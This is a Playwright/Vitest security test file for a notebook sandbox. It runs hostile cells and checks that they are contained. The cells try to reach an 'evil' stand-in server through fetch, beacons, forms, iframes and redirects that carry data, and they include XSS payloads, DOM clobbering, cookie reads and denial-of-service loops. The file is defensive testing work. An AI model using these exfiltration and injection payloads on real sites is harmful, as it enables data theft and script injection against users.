import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import process from 'node:process'
import { fileURLToPath } from 'node:url'
import { compileNotebook, toCell } from '@vedich/notebook'
import { findChromium } from '@vedich/notebook/headless'
import { type Browser, chromium, type Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { buildFrame, bundle } from '../build/frame.ts'
import type { Seen } from './contained-page.ts'

/** What the explorer's own page is served with. */
const policy = `default-src 'self'; style-src 'self' 'unsafe-inline'; frame-ancestors 'none'; object-src 'none'`

const own = new Map<string, { type: string; body: string }>()
let site: Server
let elsewhere: Server
let siteUrl: string
let evil: string
const stolen: string[] = []
const asked: string[] = []
let browser: Browser
let page: Page

beforeAll(async () => {
  const folder = dirname(fileURLToPath(import.meta.url))
  const [frame, { script }] = await Promise.all([buildFrame(), bundle(join(folder, 'contained-page.ts'))])
  own.set('/', {
    type: 'text/html',
    body: '<!doctype html><body><script type="module" src="/page.js"></script></body>',
  })
  own.set('/page.js', { type: 'text/javascript', body: script })
  own.set('/frame.html', { type: 'text/html', body: frame })
  own.set('/favicon.ico', { type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
  site = createServer(({ url = '' }, response) => {
    const file = own.get(url)
    if (!file) asked.push(url)
    const headers = { 'content-type': file?.type ?? 'text/plain', 'set-cookie': 'secret=1' }
    // The frame brings its own policy, in its head.
    response.writeHead(
      200,
      url === '/frame.html' ? headers : { ...headers, 'content-security-policy': policy },
    )
    response.end(file?.body ?? 'private')
  })
  elsewhere = createServer(({ url = '' }, response) => {
    stolen.push(url)
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' })
    response.end('<script>top.postMessage("out","*")</script>')
  })
  siteUrl = await listening(site)
  evil = await listening(elsewhere)
  browser = await chromium.launch({
    executablePath: findChromium(process.env),
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'],
  })
}, 60_000)

afterAll(async () => {
  await browser.close()
  site.close()
  elsewhere.close()
})

afterEach(() => page.context().close())

function listening(server: Server): Promise<string> {
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`))
  })
}

type Source = string | { mode: 'md' | 'html' | 'sql'; value: string }

/** Cells numbered from 1. */
function compiled(sources: readonly Source[]) {
  return compileNotebook({
    cells: sources.map((source, place) =>
      toCell({ id: place + 1, ...(typeof source === 'string' ? { value: source } : source) }),
    ),
  })
}

/** Opens a notebook in a page like the explorer's. */
async function open(sources: readonly Source[], { silent = 10_000, trusted = false } = {}): Promise<void> {
  const cells = compiled(sources)
  stolen.length = 0
  asked.length = 0
  page = await (await browser.newContext()).newPage()
  await page.goto(`${siteUrl}/`)
  await page.evaluate('localStorage.setItem("draft", "mine")')
  await page.evaluate(`open(${JSON.stringify(cells)}, ${silent}, ${trusted})`)
}

const seen = () => page.evaluate('seen') as Promise<Seen>

/** Asked from outside, since the page's policy forbids Playwright to evaluate in it. */
function until(holds: (now: Seen) => boolean): Promise<unknown> {
  return expect.poll(async () => holds(await seen()), { timeout: 15_000 }).toBe(true)
}

/** Waits until a cell rests; gives its phase and what went wrong. */
async function rested(cell: number): Promise<string> {
  await until(({ states }) => (states[cell]?.phase ?? 'running') !== 'running')
  const { states } = await seen()
  return `${states[cell]?.phase} ${states[cell]?.problem?.message ?? ''}`.trim()
}

describe('a hostile notebook', () => {
  it('reaches no network', async () => {
    const attempts = [
      `await fetch("${evil}/fetch")`,
      `await fetch("${siteUrl}/api/query")`,
      `await new Promise((done, fail) => Object.assign(new XMLHttpRequest, {onload: done, onerror: fail}).open("GET", "${evil}/xhr") ?? fail(new Error("no")))`,
      `await new Promise((done, fail) => Object.assign(new WebSocket("${evil.replace('http', 'ws')}/ws"), {onopen: done, onerror: () => fail(new Error("no"))}))`,
      `await new Promise((done, fail) => Object.assign(new Image, {onload: done, onerror: () => fail(new Error("no")), src: "${evil}/img"}))`,
      `await import("${evil}/module.js")`,
      `new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:1"}]})`,
      `new EventSource("${evil}/events").url && await new Promise((_, fail) => setTimeout(() => fail(new Error("no")), 100))`,
    ]
    await open(attempts)
    for (const [place, attempt] of attempts.entries()) {
      expect(`${attempt}: ${await rested(place + 1)}`).toContain(': error')
    }
    expect(stolen).toEqual([])
    expect(asked).toEqual([])
  })

  it('leaks nothing through what a page loads by itself', async () => {
    await open([
      `navigator.sendBeacon("${evil}/beacon")`,
      `{ const link = document.createElement("link"); Object.assign(link, {rel: "prefetch", href: "${evil}/prefetch"}); document.head.append(link) }`,
      `{ const link = document.createElement("link"); Object.assign(link, {rel: "stylesheet", href: "${evil}/style.css"}); document.head.append(link) }`,
      `{ const form = document.createElement("form"); form.action = "${evil}/form"; document.body.append(form); form.submit() }`,
      `{ const frame = document.createElement("iframe"); frame.src = "${evil}/frame"; document.body.append(frame) }`,
      `window.open("${evil}/popup")`,
      ...['preconnect', 'dns-prefetch', 'modulepreload', 'manifest', 'icon'].map(
        (rel) =>
          `{ const link = document.createElement("link"); Object.assign(link, {rel: "${rel}", href: "${evil}/${rel}"}); document.head.append(link) }`,
      ),
      `{ const a = document.createElement("a"); Object.assign(a, {href: "${evil}/ping", ping: "${evil}/ping", target: "_blank"}); document.body.append(a); a.click() }`,
      {
        mode: 'html',
        value: `<style>@import url(${evil}/import.css); main { background: url(${evil}/url) }</style>`,
      },
      { mode: 'md', value: `![](${evil}/markdown) <img src=x onerror="fetch('${evil}/onerror')">` },
      'await new Promise((done) => setTimeout(done, 700))',
    ])
    await rested(15)
    expect(stolen).toEqual([])
    expect(asked).toEqual([])
    expect(page.context().pages()).toHaveLength(1)
  })

  it('cannot read what is the site’s, nor touch the page around it', async () => {
    const attempts = [
      'document.cookie',
      'localStorage.getItem("draft")',
      'indexedDB.open("x")',
      'window.parent.document.title',
      'window.top.location.href',
      'window.frameElement.remove()',
      'window.parent.session.close()',
      'window.top.location = "about:blank"',
    ]
    await open(attempts)
    for (const [place, attempt] of attempts.entries()) {
      expect(`${attempt}: ${await rested(place + 1)}`).toContain(': error')
    }
    expect(page.url()).toBe(`${siteUrl}/`)
  })

  it('runs no script that stands in its text, in frames of its own neither', async () => {
    await open([
      { mode: 'md', value: '<script>window.owned = 1</script><img src=x onerror="window.owned = 2">' },
      { mode: 'html', value: '<script>window.owned = 3</script><svg onload="window.owned = 4"></svg>' },
      `{ const frame = document.createElement("iframe"); frame.srcdoc = "<script>parent.owned = 5; parent.postMessage('owned', '*')<\\/script>"; document.body.append(frame) }`,
      'await new Promise((done, fail) => { addEventListener("message", fail); setTimeout(done, 400) }), window.owned === undefined || (() => { throw new Error("owned") })()',
    ])
    expect(await rested(4)).toBe('done')
  })

  it('cannot replace what runs it by names and ids in its HTML', async () => {
    await open([
      {
        mode: 'html',
        value:
          '<main id="main"></main><form id="document" name="parent"><input name="parentNode"></form><a id="Plot"></a>',
      },
      '1 + 1',
      'Plot.plot({marks: [Plot.dot([1])]})',
    ])
    expect(await rested(2)).toBe('done')
    expect(await rested(3)).toBe('done')
  })

  it('is ended when it leads its frame elsewhere, and takes nothing along', async () => {
    await open([`location.href = "${evil}/?data=742"`])
    await until(({ end }) => end !== null)
    expect((await seen()).end).toEqual({ reason: 'left', cell: 1 })
    expect(stolen).toEqual([])
    expect(await page.locator('iframe').count()).toBe(0)
  })

  it('with an endless loop leaves the page responsive, and is stopped by its cell', async () => {
    await open(['1', 'while (true) {}'], { silent: 2000 })
    await until(({ states }) => states[2]?.phase === 'running')
    const started = performance.now()
    for (let turns = 0; turns < 20; turns += 1) await page.evaluate('new Promise(requestAnimationFrame)')
    expect(performance.now() - started).toBeLessThan(1500)
    await until(({ end }) => end !== null)
    expect((await seen()).end).toEqual({ reason: 'silent', cell: 2 })
    expect(await page.locator('iframe').count()).toBe(0)
  })

  it('is stopped by the cell that hangs, also when others came after it', async () => {
    await open(['await new Promise((done) => setTimeout(done, 300)); while (true) {}', '2', '3'], {
      silent: 2000,
    })
    await until(({ end }) => end !== null)
    expect((await seen()).end).toEqual({ reason: 'silent', cell: 1 })
  })

  it('that floods the page with messages is stopped, and the page goes on', async () => {
    await open(['setInterval(() => { for (let i = 0; i < 1000; i += 1) window.top.postMessage("x", "*") })'])
    await until(({ end }) => end !== null)
    expect((await seen()).end).toMatchObject({ reason: 'flood' })
    const started = performance.now()
    await page.evaluate('new Promise(requestAnimationFrame)')
    expect(performance.now() - started).toBeLessThan(5000)
  })

  it('that takes memory without end is ended before it has all, and the page goes on', async () => {
    await open(['const hold = []; while (true) hold.push(new Array(1e6).fill(hold.length + 0.5))'], {
      silent: 500,
    })
    await until(({ end }) => end !== null)
    expect(await page.evaluate('localStorage.getItem("draft")')).toBe('mine')
    expect(await page.locator('iframe').count()).toBe(0)
  })

  it('with a huge output takes no more of the page than it may', async () => {
    await open([
      '{ const tall = document.createElement("div"); tall.style.height = "9000000px"; display(tall) }',
      'document.createElement("p").textContent = "x".repeat(5e7)',
    ])
    await rested(2)
    await expect
      .poll(async () => (await page.locator('iframe').boundingBox())?.height)
      .toBeLessThanOrEqual(100_000)
  })

  it('is allowed more when it is trusted, and still neither network nor page', async () => {
    const attempts = [`await fetch("${evil}/fetch")`, 'localStorage', 'window.parent.document.title']
    await open([...attempts, `window.open("about:blank") !== null || (() => { throw new Error() })()`], {
      trusted: true,
    })
    for (const place of attempts.keys()) expect(await rested(place + 1)).toContain('error')
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe(
      'allow-scripts allow-downloads allow-popups allow-popups-to-escape-sandbox',
    )
    expect(stolen).toEqual([])
  })

  it('runs in a process of its own', async () => {
    await open(['1'])
    await rested(1)
    const session = await browser.newBrowserCDPSession()
    const { targetInfos } = await session.send('Target.getTargets')
    expect(targetInfos.some(({ type, url }) => type === 'iframe' && url === `${siteUrl}/frame.html`)).toBe(
      true,
    )
  })

  it('has a query stopped when the reader says so', async () => {
    await open([{ mode: 'sql', value: 'SELECT slow()' }])
    await until(({ queries }) => queries.length === 1)
    await page.evaluate('session.stop(1)')
    expect(await rested(1)).toBe('cancelled Stopped')
  })

  it('gets one port to the page, and no second', async () => {
    await open([
      'await new Promise((done) => { addEventListener("message", () => done("port")); window.parent.postMessage("vedich:notebook-ready", "*"); setTimeout(() => done("none"), 400) }) === "none" || (() => { throw new Error("port") })()',
    ])
    expect(await rested(1)).toBe('done')
  })
})

describe('a change of a cell', () => {
  const counted = (place: number, source: string) =>
    `window.runs ??= {}; window.runs[${place}] = (window.runs[${place}] ?? 0) + 1; ${source}`
  const frame = () => page.frames().find((candidate) => candidate !== page.mainFrame())

  it('runs that cell and what depends on it, and nothing else', async () => {
    const sources = ['const a = 1', 'const b = a + 1', 'const c = b * 2', 'const d = 7']
    await open(sources.map((source, place) => counted(place + 1, source)))
    await rested(4)
    expect(await frame()?.evaluate('window.runs')).toEqual({ 1: 1, 2: 1, 3: 1, 4: 1 })
    const changed = compiled(
      sources.map((source, place) => counted(place + 1, place === 1 ? 'const b = a + 5' : source)),
    )
    await page.evaluate(`session.show(${JSON.stringify(changed)})`)
    await expect.poll(() => frame()?.evaluate('window.runs')).toEqual({ 1: 1, 2: 2, 3: 2, 4: 1 })
  })

  it('that takes long is running until it is done, also the second time', async () => {
    await open(['1'])
    await rested(1)
    await page.evaluate(`session.show(${JSON.stringify(compiled(['await sql`SELECT slow()`']))})`)
    await until(({ queries }) => queries.length === 1)
    expect((await seen()).states[1]?.phase).toBe('running')
    await page.evaluate('session.stop(1)')
    expect(await rested(1)).toBe('cancelled Stopped')
  })

  it('keeps the order of the document when cells are moved', async () => {
    await open(['"first"', '"second"'])
    await rested(2)
    await page.evaluate(`session.show(${JSON.stringify(compiled(['"first"', '"second"']).toReversed())})`)
    const order = () =>
      frame()?.evaluate('[...document.querySelectorAll("section")].map((cell) => cell.dataset.cell)')
    await expect.poll(order).toEqual(['2', '1'])
  })
})
